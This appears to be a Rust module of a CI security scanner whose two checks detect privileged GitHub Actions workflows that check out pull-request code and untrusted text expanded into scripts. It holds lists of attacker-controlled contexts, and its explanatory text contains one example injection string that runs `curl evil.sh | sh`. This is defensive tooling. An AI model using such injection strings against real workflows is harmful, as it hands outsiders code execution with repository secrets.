//! Untrusted input reaching code: dangerous triggers that check out a pull request's head
//! (BLD-003) and attacker-controlled expressions expanded into scripts (BLD-004).

use std::collections::BTreeSet;

use serde_json::Value;

use super::{
    ScriptLine, StepRef, draft, excerpt, is_action, job_steps, jobs, script_draft, script_lines,
    triggers,
};
use crate::checks::{Check, Context, Draft, Evaluation, Snippet};
use crate::evidence::YamlDocument;
use crate::model::{Area, Severity, SourceKind};

/// Contexts whose value someone without write access to the repository can choose: the
/// text of issues, pull requests, comments, reviews, discussions, commits and branch
/// names. `*` stands for one array index or key. A context also counts as attacker
/// controlled when it contains one of these (`github.event.pull_request` as a whole).
pub static ATTACKER_CONTROLLED: &[&str] = &[
    "github.head_ref",
    "github.event.issue.title",
    "github.event.issue.body",
    "github.event.pull_request.title",
    "github.event.pull_request.body",
    "github.event.pull_request.head.ref",
    "github.event.pull_request.head.label",
    "github.event.pull_request.head.repo.default_branch",
    "github.event.pull_request.head.repo.description",
    "github.event.pull_request.head.repo.homepage",
    "github.event.comment.body",
    "github.event.review.body",
    "github.event.review_comment.body",
    "github.event.discussion.title",
    "github.event.discussion.body",
    "github.event.pages.*.page_name",
    "github.event.commits.*.message",
    "github.event.commits.*.author.email",
    "github.event.commits.*.author.name",
    "github.event.commits.*.committer.email",
    "github.event.commits.*.committer.name",
    "github.event.head_commit.message",
    "github.event.head_commit.author.email",
    "github.event.head_commit.author.name",
    "github.event.head_commit.committer.email",
    "github.event.head_commit.committer.name",
    "github.event.workflow_run.head_branch",
    "github.event.workflow_run.display_title",
    "github.event.workflow_run.head_commit.message",
    "github.event.workflow_run.head_commit.author.email",
    "github.event.workflow_run.head_commit.author.name",
    "github.event.workflow_run.head_commit.committer.email",
    "github.event.workflow_run.head_commit.committer.name",
    "github.event.workflow_run.pull_requests.*.head.ref",
    "github.event.workflow_run.head_repository.description",
    "github.event.merge_group.head_commit.message",
    "github.event.merge_group.head_commit.author.email",
    "github.event.merge_group.head_commit.author.name",
];

/// Fragments of a checkout `ref:` that name code from a pull request rather than from the
/// repository itself.
pub static UNTRUSTED_CHECKOUT_REFS: &[&str] = &[
    "github.event.pull_request.head.sha",
    "github.event.pull_request.head.ref",
    "github.event.pull_request.merge_commit_sha",
    "github.event.pull_request.number",
    "github.event.number",
    "github.head_ref",
    "github.event.workflow_run.head_sha",
    "github.event.workflow_run.head_branch",
    "github.event.workflow_run.head_commit.id",
    "github.event.issue.number",
    "refs/pull/",
];

/// Triggers that run with the base repository's secrets and write token on events that
/// outsiders can cause.
/// Triggers that run with the base repository's secrets and a writable token although an
/// outsider can cause them: a fork's pull request, a run that followed one, or a comment
/// on a pull request.
const PRIVILEGED_TRIGGERS: &[&str] = &["pull_request_target", "workflow_run", "issue_comment"];

/// BLD-003: privileged triggers never run the pull request's code.
pub static BLD_003: Check = Check {
    id: "BLD-003",
    area: Area::Build,
    severity: Severity::Critical,
    title: "Privileged workflow checks out untrusted pull request code",
    why: "Workflows started by `pull_request_target`, `workflow_run` or `issue_comment` run \
          with the base repository's secrets and a token that can write, even when a \
          stranger's fork or comment caused them. Checking out the fork's head and then building, testing or \
          installing it hands that stranger code execution with those privileges.",
    remediation: "Run untrusted code only under the unprivileged `pull_request` trigger. If a \
                  privileged follow-up is needed, pass results as artefacts to a \
                  `workflow_run` job that treats them as data and never checks out or \
                  executes the pull request's code.",
    snippet: Snippet {
        language: "yaml",
        code: "on:\n  pull_request:        # runs fork code without secrets\njobs:\n  test:\n    runs-on: ubuntu-latest\n    permissions:\n      contents: read\n    steps:\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683\n        with:\n          persist-credentials: false\n",
    },
    references: &["zizmor dangerous-triggers", "Scorecard Dangerous-Workflow"],
    sources: &[SourceKind::Files, SourceKind::Github],
    differs_from: "zizmor reports every use of these triggers; Rampart fails only when the \
                   workflow also checks out or fetches the untrusted head, which is what turns the \
                   trigger into code execution. Like zizmor `dangerous-triggers`, it also judges \
                   `issue_comment` workflows that check out `refs/pull/<number>/head` or run \
                   `gh pr checkout`.",
    evaluate: untrusted_checkout,
};

fn untrusted_checkout(cx: &Context<'_>) -> Evaluation {
    let mut evaluated = 0;
    let mut findings = Vec::new();
    for workflow in cx.workflows() {
        let Some(trigger) = triggers(workflow)
            .into_iter()
            .find(|t| PRIVILEGED_TRIGGERS.contains(t))
        else {
            continue;
        };
        evaluated += 1;
        for job in jobs(workflow) {
            for step in job_steps(&job) {
                let message = format!("runs on `{trigger}` and checks out the pull request's head");
                findings.extend(checks_out_head(workflow, &step, message));
            }
        }
    }
    Evaluation::items(
        evaluated,
        findings,
        "no workflow runs on `pull_request_target`, `workflow_run` or `issue_comment`",
    )
}

/// The finding of a step that fetches the pull request's head, if it does.
fn checks_out_head(workflow: &YamlDocument, step: &StepRef<'_>, message: String) -> Option<Draft> {
    let part = step.part();
    if step
        .action()
        .is_some_and(|a| is_action(&a, "actions/checkout"))
    {
        let git_ref = step.input("ref")?;
        let untrusted = UNTRUSTED_CHECKOUT_REFS.iter().any(|r| git_ref.contains(r));
        let pointer = format!("{}/with/ref", step.pointer);
        let evidence = Some(excerpt(&format!("ref: {git_ref}")));
        return untrusted.then(|| draft(workflow, &pointer, Some(&part), message, evidence));
    }

    // The same thing done by hand: the GitHub CLI, or git fetching the head by expression.
    let run = step.run()?;
    let lines = script_lines(run);
    let line = lines.iter().find(|line| {
        let text = &line.text;
        let fetches = ["git fetch", "git checkout", "git switch", "git pull"]
            .iter()
            .any(|command| text.contains(command));
        text.contains("gh pr checkout")
            || (fetches && UNTRUSTED_CHECKOUT_REFS.iter().any(|r| text.contains(r)))
    })?;
    let pointer = format!("{}/run", step.pointer);
    Some(script_draft(workflow, &pointer, run, line, &part, message))
}

/// BLD-004: attacker-controlled text never becomes part of a script.
pub static BLD_004: Check = Check {
    id: "BLD-004",
    area: Area::Build,
    severity: Severity::Critical,
    title: "Attacker-controlled text expanded into a script",
    why: "`${{ }}` expressions are pasted into a `run:` script or a github-script body \
          before the shell or JavaScript sees it, so a pull request title or branch name \
          such as `a\"; curl evil.sh | sh; \"` becomes code that runs with the workflow's \
          secrets. Writing such text to `GITHUB_ENV` or `GITHUB_OUTPUT` carries it into \
          later steps, where it can set variables like `LD_PRELOAD` or reach another \
          expression.",
    remediation: "Pass untrusted values through an environment variable and quote it in the \
                  shell (`\"$TITLE\"`), or read it from `context` in github-script. Never \
                  write untrusted text to `GITHUB_ENV`, and validate it before writing it \
                  to `GITHUB_OUTPUT`.",
    snippet: Snippet {
        language: "yaml",
        code: "- name: Greet\n  env:\n    TITLE: ${{ github.event.pull_request.title }}\n  run: echo \"Title: $TITLE\"\n",
    },
    references: &[
        "zizmor template-injection",
        "zizmor github-env",
        "CKV_GHA_2",
    ],
    sources: &[SourceKind::Files, SourceKind::Github],
    differs_from: "Rampart reports a write of tainted text to GITHUB_ENV or GITHUB_OUTPUT under \
                   any trigger. zizmor's github-env fired under `pull_request_target` but missed \
                   the fail fixture's write under `issue_comment`, which also runs with the base \
                   repository's secrets (Rampart right), and skips plain `pull_request`, where the \
                   author already controls the workflow, so Rampart's finding there is a latent \
                   flaw rather than an exploit. checkov CKV_GHA_2 sees only direct expansion in \
                   `run:`, missing github-script bodies, `env.*` indirection and GITHUB_ENV \
                   writes.",
    evaluate: template_injection,
};

fn template_injection(cx: &Context<'_>) -> Evaluation {
    let mut evaluated = 0;
    let mut findings = Vec::new();
    for workflow in cx.workflows() {
        let workflow_env = tainted_env(&workflow.value);
        for job in jobs(workflow) {
            let mut job_env = workflow_env.clone();
            job_env.extend(tainted_env(job.value));
            for step in job_steps(&job) {
                let Some((pointer, script)) = script_of(&step) else {
                    continue;
                };
                evaluated += 1;
                let mut env = job_env.clone();
                env.extend(tainted_env(step.value));
                if let Some(draft) = injection(workflow, &step, &pointer, script, &env) {
                    findings.push(draft);
                }
            }
        }
    }
    Evaluation::items(evaluated, findings, "no workflow step runs a script")
}

/// The script a step runs, with its pointer: `run:`, or the body of `actions/github-script`.
fn script_of<'w>(step: &StepRef<'w>) -> Option<(String, &'w str)> {
    if let Some(run) = step.run() {
        return Some((format!("{}/run", step.pointer), run));
    }
    let is_script = step
        .action()
        .is_some_and(|a| is_action(&a, "actions/github-script"));
    let script = step.value.pointer("/with/script").and_then(Value::as_str);
    (is_script)
        .then_some(script)
        .flatten()
        .map(|s| (format!("{}/with/script", step.pointer), s))
}

/// The finding for one step's script, if untrusted text reaches it.
fn injection(
    workflow: &YamlDocument,
    step: &StepRef<'_>,
    pointer: &str,
    script: &str,
    env: &BTreeSet<String>,
) -> Option<Draft> {
    let lines = script_lines(script);
    let expanded = lines.iter().find_map(|line| {
        let contexts = expanded_contexts(&line.text, env);
        (!contexts.is_empty()).then_some((line, contexts))
    });
    let (line, message) = if let Some((line, contexts)) = expanded {
        let message = format!("expands {} into a script", quote_list(&contexts));
        (line, message)
    } else {
        let (line, name) = lines.iter().find_map(|l| tainted_write(l, env))?;
        let message = format!(
            "writes `${name}`, which holds attacker-controlled text, to a file of the runner \
             that later steps read"
        );
        (line, message)
    };
    let part = step.part();
    Some(script_draft(
        workflow, pointer, script, line, &part, message,
    ))
}

/// The names of `env:` entries of a workflow, job or step whose value holds an
/// attacker-controlled expression.
fn tainted_env(node: &Value) -> BTreeSet<String> {
    let Some(env) = node.get("env").and_then(Value::as_object) else {
        return BTreeSet::new();
    };
    env.iter()
        .filter(|(_, value)| {
            value
                .as_str()
                .is_some_and(|v| !untrusted_contexts(v).is_empty())
        })
        .map(|(name, _)| name.clone())
        .collect()
}

/// The line and variable by which a script line writes tainted text to a runner file.
fn tainted_write<'l>(
    line: &'l ScriptLine,
    env: &BTreeSet<String>,
) -> Option<(&'l ScriptLine, String)> {
    const RUNNER_FILES: &[&str] = &["GITHUB_ENV", "GITHUB_OUTPUT", "GITHUB_PATH"];
    if !RUNNER_FILES.iter().any(|f| line.text.contains(f)) {
        return None;
    }
    let name = env
        .iter()
        .find(|name| mentions_variable(&line.text, name))?
        .clone();
    Some((line, name))
}

/// Whether a shell line reads variable `name` as `$name` or `${name}`.
fn mentions_variable(line: &str, name: &str) -> bool {
    let braced = format!("${{{name}}}");
    if line.contains(&braced) {
        return true;
    }
    let plain = format!("${name}");
    line.match_indices(&plain).any(|(at, _)| {
        let next = line[at + plain.len()..].chars().next();
        !next.is_some_and(|c| c.is_ascii_alphanumeric() || c == '_')
    })
}

/// The attacker-controlled contexts referenced inside the `${{ }}` expressions of `text`.
pub(crate) fn untrusted_contexts(text: &str) -> Vec<String> {
    expanded_contexts(text, &BTreeSet::new())
}

/// Like [`untrusted_contexts`], also counting `env.NAME` when the variable `NAME` holds
/// attacker-controlled text: `${{ env.TITLE }}` is expanded just as its source would be.
fn expanded_contexts(text: &str, tainted: &BTreeSet<String>) -> Vec<String> {
    let mut found = Vec::new();
    for expression in expressions(text) {
        for context in context_references(expression) {
            let via_env = context
                .strip_prefix("env.")
                .is_some_and(|name| tainted.iter().any(|t| t.eq_ignore_ascii_case(name)));
            if (via_env || is_attacker_controlled(&context)) && !found.contains(&context) {
                found.push(context);
            }
        }
    }
    found
}

/// The bodies of the `${{ … }}` expressions in `text`.
fn expressions(text: &str) -> Vec<&str> {
    let mut out = Vec::new();
    let mut rest = text;
    while let Some(start) = rest.find("${{") {
        let body = &rest[start + 3..];
        let Some(end) = body.find("}}") else {
            break;
        };
        out.push(&body[..end]);
        rest = &body[end + 2..];
    }
    out
}

/// The context paths an expression reads, normalised to dotted form with `*` for indexes:
/// `github.event.commits[0].message` becomes `github.event.commits.*.message`.
fn context_references(expression: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut chars = expression.char_indices().peekable();
    let mut in_string = false;
    while let Some((at, c)) = chars.next() {
        if c == '\'' {
            in_string = !in_string;
            continue;
        }
        if in_string || !(c.is_ascii_alphabetic() || c == '_') {
            continue;
        }
        let preceded = at > 0 && is_path_char(expression[..at].chars().last().unwrap_or(' '));
        let (path, len) = read_path(&expression[at..]);
        for _ in 1..len {
            chars.next();
        }
        if !preceded {
            out.push(path);
        }
    }
    out
}

fn is_path_char(c: char) -> bool {
    c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '.' | ']')
}

/// Reads one dotted path from the start of `text`, returning it normalised and the number
/// of characters consumed.
fn read_path(text: &str) -> (String, usize) {
    let mut path = String::new();
    let mut consumed = 0;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        if c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '.' | '*') {
            path.push(c.to_ascii_lowercase());
            consumed += 1;
        } else if c == '[' {
            // An index or quoted key: `[0]`, `['head_ref']`, `[*]`.
            let mut inner = String::new();
            consumed += 1;
            for d in chars.by_ref() {
                consumed += 1;
                if d == ']' {
                    break;
                }
                inner.push(d);
            }
            let key = inner.trim().trim_matches(|q| q == '\'' || q == '"');
            let segment = if key.is_empty() || key.bytes().all(|b| b.is_ascii_digit()) {
                "*".to_string()
            } else {
                key.to_ascii_lowercase()
            };
            path.push('.');
            path.push_str(&segment);
        } else {
            break;
        }
    }
    (path, consumed)
}

/// Whether a context path is, contains or lies inside an attacker-controlled one.
pub(crate) fn is_attacker_controlled(context: &str) -> bool {
    let segments: Vec<&str> = context.split('.').filter(|s| !s.is_empty()).collect();
    if segments.len() < 2 {
        // `github` alone (as in `toJSON(github)`) holds everything; other roots are not ours.
        return segments.first() == Some(&"github");
    }
    ATTACKER_CONTROLLED.iter().any(|pattern| {
        pattern
            .split('.')
            .zip(&segments)
            .all(|(p, s)| p == "*" || *s == "*" || p == *s)
    })
}

fn quote_list(items: &[String]) -> String {
    let quoted: Vec<String> = items.iter().map(|i| format!("`{i}`")).collect();
    quoted.join(", ")
}

#[cfg(test)]
mod tests {
    use super::{
        context_references, is_attacker_controlled, mentions_variable, untrusted_contexts,
    };

    #[test]
    fn shell_variables_are_matched_whole() {
        assert!(mentions_variable(
            "echo \"T=$TITLE\" >> $GITHUB_ENV",
            "TITLE"
        ));
        assert!(mentions_variable(
            "echo \"T=${TITLE}\" >> $GITHUB_ENV",
            "TITLE"
        ));
        assert!(!mentions_variable(
            "echo \"T=$TITLES\" >> $GITHUB_ENV",
            "TITLE"
        ));
    }

    #[test]
    fn attacker_text_is_recognised() {
        for context in [
            "github.event.issue.title",
            "github.event.pull_request.head.ref",
            "github.head_ref",
            "github.event.commits.*.message",
            "github.event.pull_request",
            "github.event",
            "github",
            "github.event.head_commit.author.name",
            "github.event.pages.*.page_name",
        ] {
            assert!(is_attacker_controlled(context), "{context}");
        }
    }

    #[test]
    fn safe_contexts_are_not() {
        for context in [
            "github.sha",
            "github.event.pull_request.number",
            "github.event.pull_request.head.sha",
            "github.repository",
            "github.event_name",
            "secrets.token",
            "matrix.os",
            "steps.meta.outputs.tags",
        ] {
            assert!(!is_attacker_controlled(context), "{context}");
        }
    }

    #[test]
    fn references_are_normalised() {
        assert_eq!(
            context_references(" github.event.commits[0].message "),
            ["github.event.commits.*.message"]
        );
        assert_eq!(
            context_references("github['head_ref'] || 'github.head_ref'"),
            ["github.head_ref"]
        );
        assert_eq!(
            context_references("toJSON(github.event.pull_request.title)"),
            ["tojson", "github.event.pull_request.title"]
        );
    }

    #[test]
    fn only_expressions_count() {
        assert!(untrusted_contexts("echo github.event.issue.title").is_empty());
        assert_eq!(
            untrusted_contexts("echo \"${{ github.event.issue.title }}\" ${{ github.sha }}"),
            ["github.event.issue.title"]
        );
        assert!(untrusted_contexts("echo ${{ github.event.pull_request.number }}").is_empty());
    }
}
